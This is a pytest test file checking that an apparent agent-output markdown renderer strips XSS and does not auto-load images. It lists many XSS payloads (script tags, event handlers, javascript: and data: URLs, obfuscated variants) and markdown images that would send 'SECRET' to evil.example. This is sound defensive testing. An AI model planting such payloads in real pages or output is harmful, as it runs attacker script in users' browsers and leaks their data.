from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.markdown import closed_length, render, render_open

TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td", "a", "span", "div"),
}
ATTRIBUTES = {"href", "title", "class", "rel", "start", "tabindex"}


class Inspector(HTMLParser):
    """Collects what a browser would act upon."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def assert_inert(html: str) -> None:
    found = Inspector(html)
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    assert all(link.lower().startswith(("http://", "https://", "mailto:")) for link in found.links)


def text_of(html: str) -> str:
    texts: list[str] = []

    class Reader(HTMLParser):
        def handle_data(self, data: str) -> None:
            texts.append(data)

    Reader().feed(html)
    return "".join(texts)


VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://evil.example/a.png "\\" onerror=alert(1)")',
    '[x](https://good.example "\\" onmouseover=alert(1) x=\\"")',
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "| <script>x</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | `|` |",
    "**<b onmouseover=alert(1)>**",
    "<!--><script>alert(1)</script>-->",
    "<style>*{background:url(https://evil.example)}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "> <details open ontoggle=alert(1)>",
    '<https://evil.example/" onclick=alert(1)>',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_makes_an_attack_inert(vector: str) -> None:
    assert_inert(render(vector))
    assert_inert(render_open(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_stays_inert_however_an_attack_is_cut(vector: str) -> None:
    for end in range(1, len(vector)):
        assert_inert(render_open(vector[:end]))
        assert_inert(render_open(vector[end:]))


@given(st.text(alphabet="<>\"'`*_[]()!#&;:/\\ \n\t|-=ajsrx1\u0000\ud800", max_size=80))
def test_markdown_is_inert_for_any_text(text: str) -> None:
    html = render(text)
    assert_inert(html)
    html.encode()


@pytest.mark.parametrize(
    "source",
    [
        "![a cat](https://evil.example/?q=SECRET)",
        "![a cat][r]\n\n[r]: https://evil.example/?q=SECRET",
        "![a cat](https://evil.example/?q=SECRET 'title')",
    ],
)
def test_markdown_image_loads_nothing_until_clicked(source: str) -> None:
    html = render(source)
    assert "<img" not in html
    assert "Show image from evil.example: a cat</a>" in html
    assert 'rel="noopener nofollow noreferrer"' in html


def test_markdown_image_inside_a_link_is_its_words() -> None:
    html = render("[![badge](https://a.example/b.svg)](https://c.example/)")
    assert html == '<p><a href="https://c.example/" rel="noopener nofollow noreferrer">badge</a></p>\n'


def test_markdown_links_do_not_hand_on_who_we_are() -> None:
    html = render("[x](https://example.com) and <mailto:a@example.com>")
    assert html.count('rel="noopener nofollow noreferrer"') == 2


def test_markdown_colours_code_by_classes_only() -> None:
    html = render('```python\ndef f():\n    return "x"\n```')
    assert '<div class="highlight"><pre tabindex="0"><code><span class="k">def</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize("info", ["", "nosuchlanguage", "python " + "x" * 10, "{.python}"])
def test_markdown_shows_code_of_any_language(info: str) -> None:
    assert "x = 1" in text_of(render(f"```{info}\nx = 1\n```"))


def test_markdown_shows_very_long_code_plain() -> None:
    html = render("```python\n" + "x = 1\n" * 10_000 + "```")
    assert "<span" not in html
    assert html.count("x = 1") == 10_000


def test_markdown_headings_stand_below_those_of_the_page() -> None:
    assert render("# One\n\n### Two\n\n## Three") == "<h3>One</h3>\n<h4>Two</h4>\n<h4>Three</h4>\n"
    assert render("### Three") == "<h3>Three</h3>\n"


def test_markdown_of_a_growing_text_closes_whole_blocks_only() -> None:
    text = "One.\n\n- a\n- b\n\nTwo.\n\n```py\nx = 1\n"
    assert text[: closed_length(text)] == "One.\n\n- a\n- b\n\nTwo.\n\n"
    assert closed_length("One.") == 0
    assert closed_length("") == 0
    assert closed_length("a\u2028b\x0cc\n\nd") == len("a\u2028b\x0cc\n\n")
    assert closed_length("a\r\n\r\nb") == len("a\r\n\r\n")


@given(st.text(alphabet="ab \n-#*>`1.", max_size=120))
def test_markdown_in_pieces_shows_the_same_words(text: str) -> None:
    cut = closed_length(text)
    assert 0 <= cut <= len(text)
    assert_inert(render_open(text[:cut]) + render_open(text[cut:]))
